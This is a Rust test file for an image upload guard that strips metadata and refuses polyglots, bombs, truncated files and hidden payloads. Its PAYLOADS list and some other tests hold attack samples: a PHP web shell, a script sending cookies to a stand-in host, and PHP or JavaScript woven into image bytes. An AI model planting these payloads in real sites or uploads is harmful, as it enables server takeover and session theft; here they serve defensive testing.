//! The upload guard's behaviour: the cases in `tests/data/upload/cases.txt`, attacks built
//! from the genuine fixtures (appended archives, payloads in metadata and pixels, cuts, fake
//! headers, bombs), and property tests that it never panics and that cleaning is stable.
// Reads fixtures from disk and uses proptest: a native test.
#![cfg(not(target_arch = "wasm32"))]

use std::path::{Path, PathBuf};

use chatward_core::{CleanImage, ImageFormat, RefusalReason, Removed, UploadLimits, check_upload};
use proptest::prelude::*;

fn data_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/upload")
}

fn fixture(name: &str) -> Vec<u8> {
    let path = data_dir().join(name);
    std::fs::read(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

fn check(bytes: &[u8]) -> Result<CleanImage, chatward_core::Refusal> {
    check_upload(bytes, &UploadLimits::default())
}

/// Decodes the `bytes:` notation of cases.txt.
fn unescape(text: &str) -> Vec<u8> {
    let b = text.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        if b[i] != b'\\' {
            out.push(b[i]);
            i += 1;
            continue;
        }
        let (byte, used) = match b.get(i + 1) {
            Some(b'x') => (
                u8::from_str_radix(&text[i + 2..i + 4], 16).expect("\\xNN escape"),
                4,
            ),
            Some(b'n') => (b'\n', 2),
            Some(b'r') => (b'\r', 2),
            Some(b't') => (b'\t', 2),
            Some(b'\\') => (b'\\', 2),
            other => panic!("unknown escape {other:?} in {text}"),
        };
        out.push(byte);
        i += used;
    }
    out
}

fn removed_from(detail: &str) -> Removed {
    let mut removed = Removed::default();
    for flag in detail.split(',').filter(|f| *f != "-") {
        match flag {
            "gps" => removed.gps = true,
            "metadata" => removed.metadata = true,
            "trailing" => removed.trailing_data = true,
            "payload" => removed.hidden_payload = true,
            other => panic!("unknown removed flag {other}"),
        }
    }
    removed
}

struct Case {
    line: usize,
    name: String,
    bytes: Vec<u8>,
    verdict: String,
    format: String,
    detail: String,
}

fn cases() -> Vec<Case> {
    let text = std::fs::read_to_string(data_dir().join("cases.txt")).expect("cases.txt");
    let mut out = Vec::new();
    for (n, line) in text.lines().enumerate() {
        let line = line.trim();
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        let cols: Vec<&str> = line.split_whitespace().collect();
        assert_eq!(cols.len(), 4, "cases.txt line {}: {line}", n + 1);
        let bytes = match cols[0].split_once(':') {
            Some(("file", name)) => fixture(name),
            Some(("bytes", text)) => unescape(text),
            _ => panic!("cases.txt line {}: bad input {}", n + 1, cols[0]),
        };
        out.push(Case {
            line: n + 1,
            name: cols[0].chars().take(40).collect(),
            bytes,
            verdict: cols[1].to_owned(),
            format: cols[2].to_owned(),
            detail: cols[3].to_owned(),
        });
    }
    out
}

/// The genuine fixtures (every `allow` case read from a file).
fn genuine() -> Vec<(String, Vec<u8>)> {
    cases()
        .into_iter()
        .filter(|c| c.verdict == "allow")
        .map(|c| (c.name, c.bytes))
        .collect()
}

/// Asserts what must hold for every accepted image: the cleaned copy is accepted again,
/// unchanged, with nothing more to remove.
fn assert_clean_is_stable(name: &str, image: &CleanImage) {
    let again =
        check(&image.bytes).unwrap_or_else(|r| panic!("{name}: cleaned copy refused: {r:?}"));
    assert_eq!(
        again.bytes, image.bytes,
        "{name}: cleaning is not idempotent"
    );
    assert_eq!(
        again.removed,
        Removed::default(),
        "{name}: cleaned copy still had {:?}",
        again.removed
    );
    assert_eq!(
        (again.width, again.height, again.format),
        (image.width, image.height, image.format)
    );
}

#[test]
fn cases_file() {
    let cases = cases();
    assert!(cases.len() > 50, "cases.txt lost its cases");
    let mut failures = Vec::new();
    for case in &cases {
        let got = check(&case.bytes);
        let ok = match (&got, case.verdict.as_str()) {
            (Ok(image), "allow") => {
                assert_clean_is_stable(&case.name, image);
                image.format.as_str() == case.format && image.removed == removed_from(&case.detail)
            }
            (Err(refusal), "block") => {
                refusal.format == case.format && refusal.reason.as_str() == case.detail
            }
            _ => false,
        };
        if !ok {
            failures.push(format!("line {} {}: got {got:?}", case.line, case.name));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn orientation_survives_as_a_minimal_exif_block() {
    // Big-endian TIFF, one IFD entry: Orientation (0x0112), SHORT, 1 value: 6.
    let minimal = b"MM\0*\0\0\0\x08\0\x01\x01\x12\0\x03\0\0\0\x01\0\x06";
    for name in ["gps_rotated.jpg", "gps_rotated.png", "gps_rotated.webp"] {
        let image = check(&fixture(name)).unwrap();
        let bytes = &image.bytes;
        assert!(
            bytes.windows(minimal.len()).any(|w| w == minimal),
            "{name}: orientation lost"
        );
        for gone in [
            &b"GPS"[..],
            b"SERIAL-0042",
            b"ExampleCam",
            b"taken at home",
            b"xmpmeta",
        ] {
            assert!(
                !bytes.windows(gone.len()).any(|w| w == gone),
                "{name}: {gone:?} left"
            );
        }
    }
}

#[test]
fn colour_profiles_are_kept() {
    for name in ["icc.jpg", "icc.png", "gps_rotated.webp"] {
        let original = fixture(name);
        let image = check(&original).unwrap();
        let count = |b: &[u8]| {
            [&b"ICC_PROFILE\0"[..], b"iCCP", b"ICCP"]
                .iter()
                .map(|tag| b.windows(tag.len()).filter(|w| w == tag).count())
                .sum::<usize>()
        };
        assert!(
            count(&image.bytes) > 0 && count(&image.bytes) == count(&original),
            "{name}"
        );
    }
}

const PAYLOADS: &[&[u8]] = &[
    b"PK\x03\x04\x14\x00\x00\x00shell.php<?php system($_GET[1]); ?>",
    b"%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF",
    b"MZ\x90\x00This program cannot be run in DOS mode.\r\n",
    b"<html><script>fetch('//x/'+document.cookie)</script></html>",
];

#[test]
fn payloads_after_the_end_are_cut_off() {
    for (name, original) in genuine() {
        let clean = check(&original).unwrap();
        for payload in PAYLOADS {
            let mut attacked = original.clone();
            attacked.extend_from_slice(payload);
            let image = check(&attacked).unwrap_or_else(|r| panic!("{name}: {r:?}"));
            assert_eq!(
                image.bytes, clean.bytes,
                "{name}: the payload changed the clean copy"
            );
            assert!(
                image.removed.trailing_data && image.removed.hidden_payload,
                "{name}"
            );
        }
    }
}

/// Inserts a metadata block holding `payload` right after the format's header.
fn with_metadata(format: ImageFormat, original: &[u8], payload: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    match format {
        ImageFormat::Jpeg => {
            out.extend_from_slice(&original[..2]);
            out.extend_from_slice(&[0xFF, 0xFE]);
            out.extend_from_slice(&(payload.len() as u16 + 2).to_be_bytes());
            out.extend_from_slice(payload);
            out.extend_from_slice(&original[2..]);
        }
        ImageFormat::Png => {
            out.extend_from_slice(&original[..33]);
            out.extend_from_slice(&png_chunk(b"tEXt", &[b"Comment\0", payload].concat()));
            out.extend_from_slice(&original[33..]);
        }
        ImageFormat::Gif => {
            // After the header, logical screen and global colour table.
            let table = if original[10] & 0x80 != 0 {
                3 << ((original[10] & 7) + 1)
            } else {
                0
            };
            let at = 13 + table;
            out.extend_from_slice(&original[..at]);
            out.extend_from_slice(&[0x21, 0xFE]);
            for block in payload.chunks(255) {
                out.push(block.len() as u8);
                out.extend_from_slice(block);
            }
            out.push(0);
            out.extend_from_slice(&original[at..]);
        }
        ImageFormat::Webp => {
            out.extend_from_slice(original);
            out.extend_from_slice(b"XMP ");
            out.extend_from_slice(&(payload.len() as u32).to_le_bytes());
            out.extend_from_slice(payload);
            if payload.len() % 2 == 1 {
                out.push(0);
            }
            let size = (out.len() - 8) as u32;
            out[4..8].copy_from_slice(&size.to_le_bytes());
            if &out[12..16] == b"VP8X" {
                out[20] |= 0x04;
            }
        }
    }
    out
}

#[test]
fn payloads_in_metadata_are_removed() {
    for (name, original) in genuine() {
        let clean = check(&original).unwrap();
        for payload in PAYLOADS {
            let attacked = with_metadata(clean.format, &original, payload);
            let image = check(&attacked).unwrap_or_else(|r| panic!("{name}: {r:?}"));
            assert!(
                image.removed.hidden_payload && image.removed.metadata,
                "{name}"
            );
            assert!(
                !contains(&image.bytes, &payload[..4]),
                "{name}: payload left"
            );
            assert_clean_is_stable(&name, &image);
        }
    }
}

fn contains(hay: &[u8], needle: &[u8]) -> bool {
    hay.windows(needle.len()).any(|w| w == needle)
}

#[test]
fn every_cut_short_image_is_refused() {
    for (name, original) in genuine() {
        for cut in 0..original.len() {
            let refused = check(&original[..cut]);
            assert!(
                refused.is_err(),
                "{name} cut at {cut} of {} was accepted",
                original.len()
            );
        }
    }
}

/// CRC-32 bit by bit, independent of the crate's table version.
fn crc32(parts: &[&[u8]]) -> u32 {
    let mut crc = !0u32;
    for &b in parts.iter().flat_map(|p| p.iter()) {
        crc ^= u32::from(b);
        for _ in 0..8 {
            crc = if crc & 1 == 1 {
                0xEDB8_8320 ^ (crc >> 1)
            } else {
                crc >> 1
            };
        }
    }
    !crc
}

fn png_chunk(kind: &[u8; 4], body: &[u8]) -> Vec<u8> {
    let mut c = (body.len() as u32).to_be_bytes().to_vec();
    c.extend_from_slice(kind);
    c.extend_from_slice(body);
    c.extend_from_slice(&crc32(&[kind, body]).to_be_bytes());
    c
}

/// A valid 16×1 grey PNG whose pixels are `row`, stored uncompressed (deflate type 0).
fn stored_png(row: &[u8; 16]) -> Vec<u8> {
    let mut raw = vec![0u8];
    raw.extend_from_slice(row);
    let (mut a, mut b) = (1u32, 0u32);
    for &x in &raw {
        a = (a + u32::from(x)) % 65521;
        b = (b + a) % 65521;
    }
    let mut zlib = vec![0x78, 0x01, 0x01];
    zlib.extend_from_slice(&(raw.len() as u16).to_le_bytes());
    zlib.extend_from_slice(&(!(raw.len() as u16)).to_le_bytes());
    zlib.extend_from_slice(&raw);
    zlib.extend_from_slice(&(b << 16 | a).to_be_bytes());
    let mut ihdr = Vec::new();
    ihdr.extend_from_slice(&16u32.to_be_bytes());
    ihdr.extend_from_slice(&1u32.to_be_bytes());
    ihdr.extend_from_slice(&[8, 0, 0, 0, 0]);
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    png.extend(png_chunk(b"IHDR", &ihdr));
    png.extend(png_chunk(b"IDAT", &zlib));
    png.extend(png_chunk(b"IEND", b""));
    png
}

#[test]
fn payloads_woven_into_pixels_are_refused() {
    let plain = check(&stored_png(b"0123456789abcdef")).expect("the stored PNG is valid");
    assert_eq!((plain.width, plain.height), (16, 1));
    let refusal = check(&stored_png(b"<?php system(1);")).unwrap_err();
    assert_eq!(refusal.reason, RefusalReason::HiddenPayload);
}

#[test]
fn location_hidden_where_cleaning_does_not_reach_is_refused() {
    // A colour profile segment is kept, so GPS tucked into one cannot be cleaned away.
    let original = fixture("icc.jpg");
    for hidden in [&b"<x exif:GPSLatitude='48.85'/>"[..], b"GPSLongitude"] {
        let mut body = b"ICC_PROFILE\0\x01\x01".to_vec();
        body.extend_from_slice(hidden);
        let mut attacked = original[..2].to_vec();
        attacked.extend_from_slice(&[0xFF, 0xE2]);
        attacked.extend_from_slice(&(body.len() as u16 + 2).to_be_bytes());
        attacked.extend_from_slice(&body);
        attacked.extend_from_slice(&original[2..]);
        let refusal = check(&attacked).unwrap_err();
        assert_eq!(refusal.reason, RefusalReason::HiddenPayload);
    }
}

#[test]
fn structural_lies_are_refused() {
    let png = fixture("palette.png");
    // Declare 60000×60000 and fix the CRC: a decompression bomb.
    let mut bomb = png.clone();
    bomb[16..24].copy_from_slice(&[0, 0, 0xEA, 0x60, 0, 0, 0xEA, 0x60]);
    let crc = crc32(&[&bomb[12..29]]);
    bomb[29..33].copy_from_slice(&crc.to_be_bytes());
    assert_eq!(
        check(&bomb).unwrap_err().reason,
        RefusalReason::TooManyPixels
    );
    // A wrong CRC.
    let mut bad_crc = png.clone();
    bad_crc[30] ^= 1;
    assert_eq!(check(&bad_crc).unwrap_err().reason, RefusalReason::Corrupt);
    // 2000×2000 pixels cannot come out of a few hundred bytes of deflate data.
    let mut inflated = png.clone();
    inflated[16..24].copy_from_slice(&[0, 0, 0x07, 0xD0, 0, 0, 0x07, 0xD0]);
    let crc = crc32(&[&inflated[12..29]]);
    inflated[29..33].copy_from_slice(&crc.to_be_bytes());
    assert_eq!(
        check(&inflated).unwrap_err().reason,
        RefusalReason::Truncated
    );
    // A GIF whose canvas width bytes open a JavaScript comment.
    let mut gif = fixture("still.gif");
    gif[6..8].copy_from_slice(b"/*");
    assert_eq!(check(&gif).unwrap_err().reason, RefusalReason::Script);
    // A shop with a smaller size limit.
    let small = UploadLimits {
        max_bytes: 100,
        ..UploadLimits::default()
    };
    let refusal = check_upload(&fixture("gps_rotated.jpg"), &small).unwrap_err();
    assert_eq!(refusal.reason, RefusalReason::TooLarge);
}

fn any_fixture() -> impl Strategy<Value = Vec<u8>> {
    let all: Vec<Vec<u8>> = genuine().into_iter().map(|(_, b)| b).collect();
    proptest::sample::select(all)
}

/// Whatever happens, an accepted result must be stable and free of payload markers.
fn assert_sound(bytes: &[u8]) -> Result<(), TestCaseError> {
    if let Ok(image) = check(bytes) {
        let again = check(&image.bytes);
        prop_assert!(again.is_ok(), "cleaned copy refused: {:?}", again.err());
        let again = again.unwrap();
        prop_assert_eq!(&again.bytes, &image.bytes);
        prop_assert_eq!(again.removed, Removed::default());
    }
    Ok(())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn never_panics_on_arbitrary_bytes(bytes in proptest::collection::vec(any::<u8>(), 0..600)) {
        assert_sound(&bytes)?;
    }

    #[test]
    fn never_panics_behind_an_accepted_signature(
        head in proptest::sample::select(vec![
            &b"\xFF\xD8\xFF"[..], b"\x89PNG\r\n\x1A\n\0\0\0\x0DIHDR", b"GIF89a", b"RIFF\x40\0\0\0WEBPVP8X",
        ]),
        tail in proptest::collection::vec(any::<u8>(), 0..400),
    ) {
        assert_sound(&[head, &tail[..]].concat())?;
    }

    #[test]
    fn mutated_images_are_refused_or_sound(
        original in any_fixture(),
        edits in proptest::collection::vec((any::<prop::sample::Index>(), any::<u8>(), 0u8..3), 1..6),
    ) {
        let mut bytes = original;
        for (at, value, kind) in edits {
            let i = at.index(bytes.len().max(1));
            match kind {
                0 if i < bytes.len() => bytes[i] = value,
                1 => bytes.insert(i.min(bytes.len()), value),
                _ if i < bytes.len() => { bytes.remove(i); }
                _ => {}
            }
        }
        assert_sound(&bytes)?;
    }
}
